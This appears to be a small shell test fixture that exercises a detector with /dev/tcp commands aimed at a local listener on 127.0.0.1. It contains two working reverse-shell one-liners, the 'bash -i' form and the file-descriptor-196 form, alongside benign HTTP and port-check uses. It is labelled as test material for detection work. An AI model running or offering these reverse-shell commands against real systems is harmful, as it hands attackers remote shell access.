# Shells and /dev/tcp against record.sh's listener (127.0.0.1:@PORT@, which
# sends "exit" and closes).
# The reverse shell written directly in the step: only bash -i is visible.
bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1 || true
# The same inside a -c string, in the 196 form.
bash -c '0<&196;exec 196<>/dev/tcp/127.0.0.1/@PORT@; sh <&196 >&196 2>&196' || true
# Benign: HTTP by hand and a port check (descriptors used, no shell on them).
timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/@PORT@; printf "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3' || true
bash -c '</dev/tcp/127.0.0.1/@PORT@' && echo "port @PORT@ is open"
